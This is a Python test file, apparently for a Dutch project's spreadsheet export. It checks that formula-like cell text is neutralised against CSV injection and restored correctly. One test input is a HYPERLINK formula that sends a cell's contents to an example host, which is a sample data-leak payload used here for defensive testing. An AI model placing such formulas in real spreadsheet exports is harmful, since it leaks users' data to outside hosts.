"""Spreadsheet cells of every CSV and Excel download: text never runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import pytest

from wijkzicht.spreadsheet import restored_cell, safe_cell

HYPERLINK = '=HYPERLINK("https://example.org/?leak="&A1,"klik")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+31 20 123 4567"]
)
def test_formula_like_text_is_neutralised_and_read_back(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restored_cell(str(safe_cell(text))) == text


@pytest.mark.parametrize("value", [-3.5, -12, 0, "-3.5", "+12", "-0,45", "1e-3", "Overvecht", "", None, True])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_text_that_starts_with_an_apostrophe_of_its_own_is_kept() -> None:
    assert restored_cell("'s-Hertogenbosch") == "'s-Hertogenbosch"
    assert safe_cell("'s-Hertogenbosch") == "'s-Hertogenbosch"
